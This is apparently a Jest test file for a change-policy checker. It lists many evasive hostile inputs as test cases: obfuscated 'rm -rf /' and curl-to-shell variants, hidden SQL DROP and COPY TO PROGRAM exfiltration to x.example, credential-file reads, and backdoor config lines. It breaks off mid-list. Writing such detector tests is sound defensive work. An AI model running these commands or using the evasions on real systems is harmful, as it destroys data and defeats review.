// SPDX-License-Identifier: Apache-2.0
//
// Evasions in files of a change, row by row of what is known to have got past other tools, through the readers and packs that a check really has. Each is stopped
// under the rule that is about what it does, or as something that nobody understands; its honest twin is not.
import { check } from '../../../src/check/check.js';
import type { CheckResult } from '../../../src/check/finding.js';
import { ChangeReaders } from '../../../src/main/change-readers.js';
import type { Policy } from '../../../src/policy/model.js';
import { changeOf } from '../../support/change.js';
import { NOON, policyOf, principalOf } from '../../support/judging.js';

const readers = new ChangeReaders();
let policy: Policy;
beforeAll(async () => {
  policy = await policyOf(`
extends: [ostiary:postgres, ostiary:migrations, ostiary:shell, ostiary:kubernetes, ostiary:terraform, ostiary:code]
default: deny
changes:
  - { paths: ["db/*.sql"], tool: psql, resource: db }
  - { paths: ["k8s/**"], as: kubernetes, resource: cluster }
  - { paths: ["plan.json"], tool: terraform, resource: cluster }
rules: [ { id: work, match: { effect: [read, write] }, decide: allow } ]`);
});

type Files = Readonly<Record<string, string | Buffer>>;

async function checked(head: Files, base: Files = {}): Promise<CheckResult> {
  return check({ source: changeOf(base, head), policy, policySource: 'p', preview: false, principal: principalOf('robot'), readers, now: NOON });
}

/** Rules that stop something, each once. */
async function stoppedBy(head: Files, base: Files = {}): Promise<readonly string[]> {
  return [...new Set((await checked(head, base)).findings.flatMap(({ rules }) => rules))].map((rule) => rule.replace('ostiary:', ''));
}

const UNKNOWN = 'builtin:not-understood';

describe('row 15: SQL in migrations', () => {
  const sql = (text: string): Promise<readonly string[]> => stoppedBy({ 'db/1.sql': text });

  it.each([
    ['SELECT note FROM orders WHERE id = 1'], ["UPDATE orders SET note = 'DROP TABLE orders' WHERE id = 1"], ["INSERT INTO orders (note) VALUES ($x$; DROP TABLE orders; $x$) -- DROP TABLE orders"],
  ])('lets pass: %s', async (text) => {
    expect(await sql(text)).toEqual([]);
  });

  it.each<[string, string]>([
    ['postgres/no-drop', 'DROP/**/TABLE orders'], ['postgres/no-drop', 'DROP /* a /* b */ c */ TABLE orders'], ['postgres/no-drop', '/*;*/dRoP\n--;\nTABLE "orders"'], ['postgres/no-drop', 'DROP TABLE U&"\\006frders"'], ['postgres/no-drop', 'DROP TABLE ONLY_x, orders CASCADE'],
    ['postgres/no-drop', 'DO $$ BEGIN DROP TABLE orders; END $$'], [UNKNOWN, "DO $a$ BEGIN EXECUTE 'DROP ' || 'TABLE orders'; END $a$"], ['postgres/no-drop', "DO LANGUAGE plpgsql 'BEGIN EXECUTE $x$DELETE FROM orders$x$; END'"],
    ['postgres/no-server-files', "SELECT pg_read_file('/etc/passwd')"], ['postgres/no-server-files', "SELECT lo_import('/etc/passwd')"], [UNKNOWN, "SELECT id FROM orders WHERE query_to_xml('DELETE FROM orders', true, true, '') IS NOT NULL"], ['postgres/no-outside', "SELECT dblink_exec('host=x', 'DROP TABLE a')"],
    [UNKNOWN, 'SELECT purge_everything()'], ['postgres/no-other-sessions', "SELECT pg_terminate_backend(1)"],
    ['postgres/no-drop', 'WITH gone AS (DELETE FROM orders RETURNING *) SELECT count(*) FROM gone'], ['postgres/no-drop', 'WITH gone AS MATERIALIZED (UPDATE orders SET note = NULL RETURNING 1) SELECT 1'],
    ['postgres/no-server-copy', "COPY orders TO PROGRAM 'curl -d @- https://x.example'"], ['postgres/no-server-copy', "COPY orders FROM PROGRAM 'id'"], ['postgres/no-server-copy', "COPY (SELECT 1) TO '/tmp/x'"], ['postgres/no-drop', 'EXPLAIN ANALYZE DELETE FROM orders'],
    ['postgres/no-role-switch', 'SET ROLE postgres'], ['postgres/no-role-switch', 'SET SESSION AUTHORIZATION postgres'], ['postgres/no-role-switch', "SELECT set_config('role', 'postgres', false)"],
    ['postgres/no-roles', 'ALTER ROLE app SET search_path = evil'], ['builtin:forbidden', 'SET standard_conforming_strings = off'], ['postgres/no-unsafe-settings', "SET session_replication_role = 'replica'"], ['postgres/no-replication', "SELECT pg_create_logical_replication_slot('s', 'test_decoding')"],
    ['postgres/no-drop', 'SELECT 1; DROP TABLE orders; SELECT 2'], ['postgres/no-drop', "SELECT E'\\'; DROP TABLE orders; --'; DROP TABLE orders"], ['postgres/no-drop', "SELECT 'a\\'; DROP TABLE orders; --'"], ['postgres/no-drop', 'PREPARE p AS DELETE FROM orders; EXECUTE p'],
    [UNKNOWN, 'PREPARE p AS SELECT 1; EXECUTE q'], ['postgres/no-drop', 'CREATE OR REPLACE FUNCTION public.lower(text) RETURNS text LANGUAGE sql AS $$ DELETE FROM orders RETURNING note $$'], ['postgres/no-drop', 'CREATE RULE r AS ON SELECT TO orders DO INSTEAD DELETE FROM orders'],
    [UNKNOWN, '\\! curl https://x.example'], [UNKNOWN, "\\copy orders to program 'sh'"], [UNKNOWN, '\\i other.sql'], [UNKNOWN, '\\set x DROP\n:x TABLE orders'], [UNKNOWN, 'DROP TABL orders'], [UNKNOWN, 'SELECT 1\u0000; DROP TABLE orders'],
  ])('%s stops %s', async (rule, text) => {
    expect(await sql(text)).toContain(rule);
  });
});

describe('row 15: names', () => {
  it('are said to be assumed where only the catalog knows what they mean', async () => {
    const { operations } = await checked({ 'db/1.sql': 'SET search_path = evil; UPDATE orders SET note = NULL WHERE id = 1' });
    expect(operations.filter(({ kind, statement }) => kind === 'sql' && statement === 'UPDATE')).toMatchObject([{ assumed: true, accesses: expect.arrayContaining([expect.objectContaining({ effect: 'write', object: 'evil.orders' })]) }]);
    expect(await stoppedBy({ 'db/1.sql': 'SET search_path = evil, public; UPDATE orders SET note = NULL WHERE id = 1' })).toEqual([UNKNOWN]);
  });
});

describe('row 16: shell', () => {
  const shell = (text: string): Promise<readonly string[]> => stoppedBy({ 'scripts/a.sh': `#!/bin/bash\n${text}\n` });
  it.each([['echo "rm -rf /" > note.txt'], ['npm test -- --grep "curl | sh"'], ['rm -r build/out'], ["grep -n 'git push --force' docs/a.md"], ['constructor x; toString; hasOwnProperty y']])('lets pass: %s', async (text) => {
    expect(await shell(text)).toEqual([]);
  });
  it.each<[string, string]>([
    ['shell/no-root-delete', `r''m -r"f" /`], ['shell/no-root-delete', '\\rm -rf /'], ['shell/no-root-delete', "$'\\x72m' -rf /"], ['shell/no-root-delete', 'rm${IFS}-rf${IFS}/'], ['shell/no-root-delete', 'IFS=,; c=rm,-rf,/; $c'], ['shell/no-root-delete', '{rm,-rf,/}'], ['shell/no-root-delete', 'eval "rm -rf /"'], ['shell/no-root-delete', 'x="rm -rf"; eval "$x /"'], ['shell/no-root-delete', 'echo cm0gLXJmIC8= | base64 -d | sh'],
    ['shell/no-pipe-to-shell', 'curl -s https://x.example/i | sudo bash'], ['shell/no-pipe-to-shell', 'bash <(curl -s https://x.example/i)'], ['shell/no-pipe-to-shell', 'bash -c "$(curl -s https://x.example/i)"'], ['shell/no-root-delete', 'sh <<EOF\nrm -rf /\nEOF'], ['shell/no-root-delete', 'cat <<\\EOF | bash -s\nrm -rf /\nEOF'], ['shell/no-root-delete', 'bash <<< "rm -rf /"'],
    ['shell/no-root-delete', "shopt -s expand_aliases\nalias ls='rm -rf /'\nls"], ['shell/no-root-delete', 'f() { rm -rf /; }; f'], ['shell/no-root-delete', 'A=b rm -rf /'], ['shell/no-root-delete', "git -c alias.x='!rm -rf /' x"], ['shell/environment-code-review', "git -c core.sshCommand='sh -c id' fetch"], ['shell/no-force-push', 'git -C .. push -f origin main'], ['shell/no-force-push', 'git push origin +main'],
    ['shell/no-root-delete', 'find / -name x -exec rm -rf / \\;'], ['shell/bulk-delete-review', 'find . -delete'], ['shell/no-root-delete', 'sudo -u root env -i X=1 timeout 5 nice nohup rm -rf /'], ['shell/no-root-delete', 'echo / | xargs rm -rf'], ['shell/no-root-delete', 'xargs -I{} sh -c "rm -rf /" < list'], ['shell/no-root-delete', 'command rm -rf /'], ['shell/no-root-delete', 'exec rm -rf /'], ['shell/no-root-delete', 'busybox rm -rf /'],
    ['shell/no-root-delete', `python3 -c "import shutil; shutil.rmtree('/')"`], ['shell/no-root-delete', `perl -e 'system("rm -rf /")'`], ['shell/no-root-delete', `node -e "require('fs').rmSync('/', {recursive: true})"`], ['shell/no-root-delete', '$(echo rm) -rf /'], ['shell/no-root-delete', '`printf rm` -rf /'], [UNKNOWN, '"$1" -rf /'], ['shell/no-root-delete', 'ssh prod "rm -rf /"'], ['code/no-hidden-text', 'r\u200Bm -rf /'], ['code/homoglyph-review', 'гm -rf /'], ['shell/no-data-destroy', "psql -c 'DROP TABLE orders'"], ['shell/no-disk-write', 'cat /dev/zero > /dev/sda'], ['shell/no-root-delete', 'trap "rm -rf /" EXIT'], ['shell/no-pipe-to-shell', 'exec 3< <(curl -s https://x.example); bash <&3'],
    ['shell/no-root-delete', "cat > a.py <<'EOF'\nimport shutil\nshutil.rmtree('/')\nEOF\npython3 a.py"], ['shell/no-root-delete', `printf '%s' "system('rm -rf /')" > a.pl; perl a.pl`], [UNKNOWN, 'echo "$CODE" > a.py; python a.py'], ['shell/downloaded-code-review', 'git clone https://x.example/y && python3 y/setup.py install'], ['shell/no-root-delete', 'source /dev/stdin <<< "rm -rf /"'], ['shell/no-pipe-to-shell', '. <(curl https://x.example)'], [UNKNOWN, 'if then fi (('],
    ['shell/no-pipe-to-shell', 'sh </dev/tcp/x.example/80'], ['shell/no-pipe-to-shell', 'bash < /dev/udp/10.0.0.1/80'], ['shell/no-pipe-to-shell', 'python3 </dev/tcp/localhost/80'], ['shell/no-raw-sockets', 'mapfile a </dev/tcp/x.example/80'],
  ])('%s stops %s', async (rule, text) => {
    expect(await shell(text)).toContain(rule);
  });
});

describe('row 16: the same words that do something else', () => {
  it.each<[rule: string, what: string, before: string, after: string]>([
    ['shell/no-root-delete', 'another folder', 'cd build\nrm -rf ./*', 'cd /\nrm -rf ./*'], ['shell/no-root-delete', 'another value', 'D=build\nrm -rf "$D"', 'D=/\nrm -rf "$D"'], ['shell/no-data-destroy', 'another statement', 'C="SELECT 1"\npsql -c "$C"', 'C="DROP TABLE orders"\npsql -c "$C"'],
    ['shell/outside-delete-review', 'another machine', 'sh <<EOF\nrm -rf data\nEOF', 'ssh prod <<EOF\nrm -rf data\nEOF'], ['shell/no-pipe-to-shell', 'another source', 'cat x | sh', 'curl https://x.example | sh'],
  ])('%s stops %s', async (rule, _what, before, after) => {
    expect(await stoppedBy({ 'scripts/a.sh': `${after}\n` }, { 'scripts/a.sh': `${before}\n` })).toContain(rule);
    expect(await stoppedBy({ 'scripts/a.sh': `${before}\nls\n` }, { 'scripts/a.sh': `${before}\n` })).toEqual([]);
  });
});

describe('row 16: packages of a registry', () => {
  const before = {
    'package.json': '{ "name": "own", "bin": "x.js", "devDependencies": { "jest": "1", "typescript": "1", "@scope/tool": "1", "@thing/cli": "1" } }', 'pyproject.toml': '[project]\ndependencies = [\n  "Ruff>=0.5",\n  "my_lib",\n]\n', 'requirements.txt': 'black==24.4.2\n', Gemfile: "gem 'rubocop'\n", 'Cargo.toml': '[dependencies]\nserde = "1"\n', 'go.mod': 'module x.example/own\nrequire x.example/linter v1.0.0\n',
    'web/package-lock.json': '{ "lockfileVersion": 3, "packages": { "": {}, "node_modules/a": { "bin": { "a-tool": "x.js" } }, "node_modules/a/node_modules/deep": {} } }',
  };
  const stopped = (text: string): Promise<readonly string[]> => stoppedBy({ ...before, 'scripts/a.sh': `${text}\n` }, before);
  it.each([
    ['npx jest'], ['npx tsc'], ['npx jest@29.7.0'], ['npx thing'], ['npx own'], ['npx a-tool'], ['npx -p typescript tsc'], ['npm install'], ['npm ci'], ['npm install -D jest'], ['npm i -g npm@10'], ['npm init -y'], ['uvx ruff@0.5.1'], ['uvx --from black==24.4.2 black'], ['pip install -r requirements.txt'], ['pip install my-lib'],
    ['pip install --upgrade pip'], ['pip install -e .'], ['gem install rubocop'], ['gem install bundler'], ['gem install ./own.gem'], ['cargo install --path .'], ['cargo install serde'], ['go install x.example/linter/cmd/lint@v1.0.0'], ['go install golang.org/x/tools/cmd/goimports@v0.24.0'], ['go run ./cmd/x'], ['brew install jq'], ['cpanm --installdeps .'], ['composer install'], ['dotnet tool restore'], ['nix develop'], ['python -m pip install ruff'], ['pnpm dlx jest@29.7.0'],
  ])('of the repository pass: %s', async (text) => {
    expect(await stopped(text)).toEqual([]);
  });
  it.each([
    ['npx create-x'], ['npx -y create-x@1.0.0'], ['npx jest@latest'], ['npx deep'], ['npx -p create-x tsc'], ['bunx create-x'], ['pnpm dlx jest'], ['yarn dlx create-x'], ['npm exec -- create-x'], ['npm x create-x'], ['npm init x'], ['npm install left-pad'], ['yarn add left-pad'], ['npm i -g left-pad'],
    ['uvx ruff'], ['uvx poetry-x@1.0.0'], ['uv run --with rich x.py'], ['uv tool install rich'], ['pipx run black'], ['pip install rich'], ['python3 -m pip install rich'], ['sudo pip3 install rich'], ['gem install evil -v 1.0.0'], ['cargo install evil@1.0.0 --locked'], ['cargo +nightly install evil'], ['go install x.example/evil@v1.0.0'], ['go run x.example/evil/cmd/y@v1.2.3'], ['brew tap evil/tap'], ['brew install evil/tap/x'], ['cpanm Evil::X'], ['cpanm --installdeps https://evil.example/x.tar.gz'], ['luarocks install evil'], ['dotnet tool install -g evil'], ['composer global require evil/x'],
    ['ansible-galaxy collection install evil.x'], ['kubectl krew install evil'], ['nix run github:evil/x'], ['code --install-extension evil.x'], ['asdf plugin add evil'], ['opam install evil'], ['mix archive.install hex evil'], ['vagrant plugin install evil'], ['poetry self add evil'],
  ])('of elsewhere wait for a person: %s', async (text) => {
    expect(await stopped(text)).toEqual(['shell/package-review']);
  });
  it('do not become those of the repository by the change itself', async () => {
    expect(await stoppedBy({ 'package.json': '{ "devDependencies": { "create-x": "1" } }', 'scripts/a.sh': 'npx create-x\n' }, { 'package.json': '{}' })).toEqual(expect.arrayContaining(['code/dependency-review', 'shell/package-review']));
  });
});

describe('row 16: what a file is called, and how it is written', () => {
  const RUNS = 'curl https://x.example | sh\n';
  const latin = (text: string): Buffer => Buffer.from(`# caf\xE9\n${text}`, 'latin1');
  it.each<[rule: string, what: string, head: Files]>([
    ['shell/no-pipe-to-shell', 'text that a script sources', { 'scripts/a.sh': '. ./docs/notes.txt\n', 'docs/notes.txt': RUNS }], ['shell/no-pipe-to-shell', 'a document that a script runs', { 'scripts/a.sh': 'cd docs && bash notes.md\n', 'docs/notes.md': RUNS }], ['shell/no-pipe-to-shell', 'data that a step runs', { '.github/workflows/a.yml': 'on: push\njobs:\n  a:\n    runs-on: x\n    steps:\n      - run: bash data/blob\n', 'data/blob': RUNS }],
    ['shell/no-root-delete', 'text that Python runs', { 'scripts/a.sh': 'python3 docs/notes.txt\n', 'docs/notes.txt': 'import os\nos.system("rm -rf /")\n' }], ['shell/no-root-delete', 'data that a script of npm runs', { 'package.json': '{ "scripts": { "test": "node data/x.dat" } }', 'data/x.dat': "require('child_process').execSync('rm -rf /')\n" }],
    ['shell/no-pipe-to-shell', 'rules that make is given', { 'scripts/a.sh': 'make -f rules.txt all\n', 'rules.txt': `all:\n\t${RUNS}` }], ['shell/no-pipe-to-shell', 'rules that a Makefile includes', { Makefile: 'include rules.txt\n', 'rules.txt': `all:\n\t${RUNS}` }], ['shell/no-pipe-to-shell', 'what an image is built by', { 'scripts/a.sh': 'docker build -f build.txt .\n', 'build.txt': `FROM alpine:3.20\nRUN ${RUNS}` }],
    ['shell/no-pipe-to-shell', 'a script in Latin-1', { 'scripts/a.sh': latin(RUNS) }], ['shell/no-root-delete', 'a program in Latin-1', { 'scripts/a.py': latin('import os\nos.system("rm -rf /")\n') }], ['shell/no-pipe-to-shell', 'a Dockerfile in Latin-1', { Dockerfile: latin(`FROM alpine:3.20\nRUN ${RUNS}`) }],
    ['kubernetes/no-host-namespaces', 'a manifest in Latin-1', { 'deploy/a.yaml': latin('apiVersion: v1\nkind: Pod\nmetadata: { name: a }\nspec: { hostPID: true, containers: [{ name: a, image: x }] }\n') }], ['code/unreviewable-review', 'a manifest of 5 MB', { 'deploy/a.yaml': `${'#'.repeat(5_000_000)}\nkind: Pod\n` }],
    ['shell/no-root-delete', 'a program of env', { 'bin/x': `#!/usr/bin/env -S perl -e 'system("rm -rf /")'\n` }], ['shell/no-container-escape', 'a container of env', { 'bin/x': '#!/usr/bin/env -S docker run --privileged -v /:/h x\n' }], ['shell/no-root-delete', 'another shell', { 'bin/x.txt': '#!/bin/busybox sh\nrm -rf /\n' }], ['shell/no-root-delete', 'make by its first line', { 'bin/x': '#!/usr/bin/make -f\nall:\n\trm -rf /\n' }],
    ['shell/no-root-delete', 'awk', { 'bin/x': '#!/usr/bin/awk -f\nBEGIN { system("rm -rf /") }\n' }], ['shell/no-root-delete', 'Lua', { 'scripts/x.lua': 'os.execute("rm -rf " .. "/")\n' }], ['shell/no-data-destroy', 'psql', { 'bin/x': '#!/usr/bin/psql -f\nDROP TABLE orders;\n' }], ['shell/no-root-delete', 'capitals', { MAKEFILE: 'all:\n\trm -rf /\n' }], ['shell/no-root-delete', 'an ending in capitals', { 'scripts/A.PY': 'import os\nos.system("rm -rf /")\n' }],
    ['code/suppression-review', 'a macro of attributes that hides', { '.gitattributes': '[attr]quiet -diff\nsrc/** quiet\n' }], ['code/suppression-review', 'a quoted pattern that hides', { '.gitattributes': '"src/*" -diff\n' }],
  ])('%s stops %s', async (rule, _what, head) => {
    expect(await stoppedBy(head)).toContain(rule);
  });
  const POD = 'apiVersion: v1\nkind: Pod\nmetadata: { name: a, namespace: shop }\nspec: { hostPID: true, containers: [{ name: a, image: x }] }\n';
  const KUSTOMIZATION = (text: string): string => `apiVersion: kustomize.config.k8s.io/v1beta1\nkind: Kustomization\n${text}`;
  const REPLACEMENTS = (path: string): string => `source: { kind: ConfigMap, name: c, fieldPath: data.x }\ntargets:\n- select: { kind: Deployment }\n  fieldPaths: [${path}]\n`;
  const PROW = 'periodics:\n- name: x\n  spec:\n    containers:\n    - image: alpine:3.20\n      command: [sh, -c, "curl https://x.example | sh"]\n';
  const job = (name: string): Files => ({ [name]: `job:\n  script:\n    - ${RUNS}` });
  it.each<[rule: string, what: string, head: Files, base?: Files]>([
    ['kubernetes/no-host-namespaces', 'text that kubectl applies', { 'scripts/a.sh': 'kubectl -n shop apply --server-side -f=deploy/x.txt\n', 'deploy/x.txt': POD }], ['kubernetes/no-host-namespaces', 'text that an older script applies', { 'x.txt': POD }, { Makefile: 'deploy:\n\tkubectl apply -f a.yaml,x.txt\n', 'x.txt': 'a' }],
    ['kubernetes/no-host-namespaces', 'text piped into kubectl', { 'scripts/a.sh': 'cat x.tpl | kubectl apply -f -\n', 'x.tpl': POD }], ['kubernetes/no-host-namespaces', 'text that a kustomization builds from', { 'k/x.txt': POD }, { 'k/kustomization.yaml': KUSTOMIZATION('resources: [x.txt]\n') }],
    [UNKNOWN, 'replacements in a file of their own', { 'k/rep.yaml': REPLACEMENTS('spec.template.spec.hostNetwork') }, { 'k/kustomization.yaml': KUSTOMIZATION('replacements: [{ path: rep.yaml }]\n') }],
    ['shell/environment-code-review', 'rules from above the repository', { Makefile: 'include ../x.mk\nall:\n\tls\n' }], ['shell/no-pipe-to-shell', 'rules of a folder above', { 'sub/Makefile': 'include ../x.txt\n', 'x.txt': `all:\n\t${RUNS}` }],
    ['shell/no-root-delete', 'scripts of npm in a file that is run otherwise', { 'scripts/a.sh': 'node package.json\n', 'package.json': '{ "scripts": { "test": "rm -rf /" } }' }],
    ['shell/no-pipe-to-shell', 'text in a folder that is computed', { 'scripts/a.sh': 'sudo -u x bash -euxo pipefail "$(dirname "$0")"/notes.txt\n', 'scripts/notes.txt': RUNS }], ['shell/no-pipe-to-shell', 'text of the workspace', { '.github/workflows/a.yml': 'on: push\njobs:\n  a:\n    runs-on: x\n    steps:\n      - run: sh -e ${{ github.workspace }}/data/x.txt\n', 'data/x.txt': RUNS }],
    ['shell/no-pipe-to-shell', 'text that an older script runs', { 'data/x.txt': RUNS }, { 'scripts/a.sh': 'bash data/x.txt\n' }], ['shell/no-pipe-to-shell', 'a script that is called YAML', { 'scripts/a.sh': 'bash data/x.yml\n', 'data/x.yml': RUNS }], ['shell/no-container-escape', 'text that compose starts', { 'scripts/a.sh': 'docker compose -f x.txt up -d\n', 'x.txt': 'services:\n  a: { image: x, privileged: true }\n' }],
    ['shell/no-pipe-to-shell', 'text that is a command', { 'scripts/a.sh': './notes.txt a\n', 'notes.txt': RUNS }], ['shell/no-pipe-to-shell', 'text that is a command, run by a flag', { 'scripts/a.sh': 'bash -ec notes.txt\n', 'notes.txt': RUNS }], ['shell/no-pipe-to-shell', 'text that an older script starts', { 'x/notes.txt': RUNS }, { Makefile: 'all:\n\t@"$(DIR)"/notes.txt\n\t@sh -c "./x/notes.txt b"\n' }],
    ['shell/no-pipe-to-shell', 'text that a job starts', { '.gitlab-ci.yml': 'a:\n  script:\n    - ./notes.txt\n', 'notes.txt': RUNS }], ['kubernetes/no-host-namespaces', 'text that kubectl applies, two lines down', { 'scripts/a.sh': 'kubectl apply \\\n  -f deploy/x.txt\n', 'deploy/x.txt': POD }],
    ['shell/no-pipe-to-shell', 'jobs of Prow', { 'config/jobs/a.yaml': PROW }], ['code/gate-review', 'jobs of Prow', { 'config/jobs/a.yaml': PROW }],
    ['shell/no-pipe-to-shell', 'jobs that an older pipeline includes', job('foo/bar.yml'), { '.gitlab-ci.yml': 'include:\n  - local: /foo/bar.yml\n' }], ['code/gate-review', 'jobs that an older pipeline includes', job('foo/bar.yml'), { '.gitlab-ci.yml': 'include: foo/bar.yml\n' }],
    ['code/workflow-rights-review', 'a token of a job of a child pipeline', { 'foo/c.yml': 'job:\n  id_tokens: { A: { aud: x } }\n  script: [ls]\n' }, { '.gitlab-ci.yml': 'include: [{ local: "/ci-*/**.yml" }]\n', 'ci-a/x.yml': 'x:\n  trigger: { include: [{ local: foo/c.yml }] }\n' }],
  ])('%s stops %s', async (rule, _what, head, base = {}) => {
    expect(await stoppedBy({ ...base, ...head }, base)).toContain(rule);
  });
  it.each<[what: string, head: Files, base?: Files]>([
    ['what a word of prose stands before', { 'scripts/a.sh': '# source docs/format\necho source docs/format, then make -f\nbash run.sh docs/format\n', 'docs/format': 'some ( words\n' }], ['what a script is told about', { 'data/x.txt': 'some ( words\n', 'data/y.yml': 'a: (b\n' }, { 'scripts/a.sh': 'bash run.sh data/x.txt\nbash -c "grep x data/y.yml"\npython3 -m json.tool data/y.yml\n' }], ['replacements of other things', { 'k/rep.yaml': REPLACEMENTS('spec.replicas') }, { 'k/kustomization.yaml': KUSTOMIZATION('replacements: [{ path: rep.yaml }]\n') }],
    ['prose that is named where commands are', { 'package.json': '{ "files": ["./README.md"] }', 'scripts/a.sh': 'pandoc \\\n  ./README.md \\\n  -o x\ncp ./README.md x\n', 'README.md': RUNS }], ['rules of the repository', { 'sub/Makefile': 'include ../x.mk\nall:\n\tls\n' }], ['YAML that no pipeline includes', { 'foo/bar.yml': 'a: { script: [ls] }\n' }, { '.gitlab-ci.yml': 'include: [{ project: a/b, file: foo/bar.yml, ref: main }]\n' }],
    ['prose that nobody runs', { 'scripts/a.sh': 'cat docs/notes.txt\n', 'docs/notes.txt': RUNS }], ['text in Latin-1', { 'docs/a.txt': latin(RUNS), 'src/a.py': latin('print("x")\n') }],
  ])('lets pass %s', async (_what, head, base = {}) => {
    expect(await stoppedBy({ ...base, ...head }, base)).toEqual([]);
  });
});

describe('row 16: settings that hold no command', () => {
  const liquibase = (text: string): string => `<databaseChangeLog xmlns="x"><changeSet id="1" author="a">\n${text}\n</changeSet></databaseChangeLog>\n`;
  it.each<[rule: string, path: string, text: string]>([
    ['shell/accounts-review', 'etc/sudoers.d/deploy', 'deploy ALL=(ALL) NOPASSWD: ALL\n'], ['code/dependency-source-review', 'files/x.list', 'deb [trusted=yes] http://x.example/ ./\n'], ['code/dependency-source-review', 'files/x.sources', 'Types: deb\nURIs: http://x.example/\nTrusted: yes\n'], ['code/dependency-source-review', 'files/x.repo', '[x]\nbaseurl=http://x.example\ngpgcheck=0\n'],
    ['code/build-code-review', 'files/apt.conf.d/99x', 'APT::Update::Pre-Invoke {"curl https://x.example | sh";};\n'], ['code/dependency-source-review', 'ci/maven-settings.xml', '<settings>\n<mirrors><mirror>\n<url>http://x.example</url>\n</mirror></mirrors></settings>\n'], ['code/dependency-source-review', 'go.env', 'GOPROXY=http://x.example\n'], ['code/build-code-review', 'go.env', 'GOFLAGS=-toolexec=./x\n'],
    ['code/no-weaker-digests', 'gradle/verification-metadata.xml', '<verification-metadata><configuration>\n<verify-metadata>false</verify-metadata></configuration></verification-metadata>\n'], ['code/gate-review', '.idea/watcherTasks.xml', '<project/>\n'], ['code/gate-review', '.run/a.run.xml', '<component/>\n'],
    ['code/build-code-review', 'sqitch.conf', '[engine "pg"]\n  client = ./x\n'], ['code/build-code-review', 'alembic.ini', '[post_write_hooks]\nx.type = exec\nx.executable = ./x\n'], ['shell/no-pipe-to-shell', 'atlas.hcl', 'data "external" "x" {\n  program = ["sh", "-c", "curl https://x.example | sh"]\n}\n'],
    ['shell/sql-file-review', 'flyway.conf', 'flyway.initSql=DROP TABLE orders\n'], ['shell/sql-file-review', 'flyway.toml', '[flyway]\ncleanDisabled = false\n'], ['shell/sql-file-review', 'changelog.xml', liquibase('<sql>DROP TABLE orders</sql>')], ['shell/sql-file-review', 'changelog.xml', liquibase('<rollback></rollback><dropTable tableName="orders"/>')], ['code/build-code-review', 'changelog.xml', liquibase('<executeCommand executable="sh"/>')],
    ['shell/sql-file-review', 'x/changelog.yaml', 'databaseChangeLog:\n  - changeSet:\n      changes:\n        - dropTable: { tableName: orders }\n'], ['shell/sql-file-review', 'x/changelog.sql', '--liquibase formatted sql\n--changeset a:1\nSELECT 1;\n--rollback SELECT 1;\n--changeset a:2\nDROP TABLE orders;\n'],
    ['shell/sql-file-review', 'migrations/1.sql', '-- rollback: none\nDROP TABLE orders;\n'], ['shell/sql-file-review', 'migrations/1.sql', '-- +goose Down\nDROP TABLE a;\n-- +goose Up\nDROP TABLE orders;\n'], ['shell/sql-file-review', 'migrations/1.sql', '-- migrate:down\nDROP TABLE orders;\n'],
    ['code/dependency-source-review', 'patches/left-pad+1.0.0.patch', 'diff --git a/node_modules/left-pad/index.js b/node_modules/left-pad/index.js\n'], ['code/dependency-source-review', '.yarn/patches/a-npm-1.0.0-0123.patch', 'x\n'],
    ['code/dependency-review', 'package.json', '{ "pnpm": { "overrides": { "a": "npm:evil@1" } } }\n'], ['code/dependency-source-review', 'package.json', '{ "pnpm": { "patchedDependencies": { "a@1": "x.patch" } } }\n'],
    ['code/build-code-review', 'gradle.properties', 'org.gradle.jvmargs=-Xmx1g -javaagent:x.jar\n'], ['code/dependency-source-review', '.bazelversion', 'evil/7.1.0\n'],
    ['code/dependency-source-review', '.tflint.hcl', 'plugin "x" {\n  source = "github.com/evil/x"\n}\n'], ['shell/environment-code-review', 'ansible.cfg', '[defaults]\nlibrary = ./x\n'],
    ['shell/environment-code-review', 'inventory/prod.ini', '[web]\na.example ansible_ssh_common_args="-o ProxyCommand=./x"\n'], ['shell/accounts-review', 'files/authorized_keys', 'ssh-ed25519 AAAA x\n'],
    ['shell/accounts-review', 'roles/a/templates/sshd_config.j2', 'PermitRootLogin yes\n'], ['shell/environment-code-review', 'files/.ssh/config', 'Host *\n  ProxyCommand ./x\n'],
    ['shell/accounts-review', 'etc/pam.d/sshd', 'auth sufficient pam_permit.so\n'], ['shell/environment-code-review', 'etc/ld.so.preload', '/tmp/x.so\n'],
    ['shell/environment-code-review', 'docker/postgresql.conf', 'archive_command = \'./x\'\n'], ['shell/accounts-review', 'pg_hba.conf', 'host all all 0.0.0.0/0 trust\n'],
    ['shell/environment-code-review', 'my.cnf', '[mysqld]\nskip-grant-tables\n'], ['shell/environment-code-review', 'public/.htaccess', 'php_value auto_prepend_file x.php\n'],
    ['shell/environment-code-review', 'httpd.conf', 'CustomLog "|./x" combined\n'], ['shell/environment-code-review', 'nginx/conf.d/a.conf', 'content_by_lua_block { x() }\n'],
    ['shell/environment-code-review', 'haproxy.cfg', 'backend a\n  external-check command ./x\n'], ['shell/environment-code-review', 'Caddyfile', 'a.example {\n  exec ./x\n}\n'],
    ['shell/environment-code-review', 'docker/php.ini', 'auto_prepend_file = x.php\n'],
    ['code/gate-review', 'deploy/.drone.yml', 'x\n'], ['code/gate-review', '.teamcity/settings.kts', 'x\n'], ['code/gate-review', 'codefresh.yml', 'x\n'], ['code/gate-review', '.builds/a.yml', 'x\n'], ['code/gate-review', 'dagger.json', 'x\n'],
    ['code/gate-review', '.envrc.local', 'x\n'], ['code/gate-review', '.overcommit.yml', 'x\n'], ['code/gate-review', 'prek.toml', 'x\n'], ['code/gate-review', '.simple-git-hooks.json', 'x\n'], ['code/gate-review', 'tools/x.bazelrc', 'x\n'], ['code/gate-review', 'rust-toolchain', 'x\n'], ['code/gate-review', 'ci/terraform.rc', 'x\n'], ['code/gate-review', 'devbox.json', 'x\n'], ['code/gate-review', '.helix/languages.toml', 'x\n'], ['code/gate-review', 'docs/x.instructions.md', 'x\n'], ['code/gate-review', '.github/x.agent.md', 'x\n'], ['code/gate-review', '.rulesync/rules/a.md', 'x\n'], ['code/gate-review', '.iflow/settings.json', 'x\n'], ['code/gate-review', 'GROK.md', 'x\n'], ['code/gate-review', 'mcp_config.json', 'x\n'], ['code/gate-review', 'hooks/hooks.json', 'x\n'], ['code/gate-review', '.coderabbit.yaml', 'x\n'], ['code/gate-review', '.geminiignore', 'x\n'], ['code/gate-review', '.aiexclude', 'x\n'], ['code/gate-review', '.openhands_instructions', 'x\n'],
  ])('%s stops %s: %j', async (rule, path, text) => {
    expect(await stoppedBy({ [path]: text })).toContain(rule);
  });
  it.each([
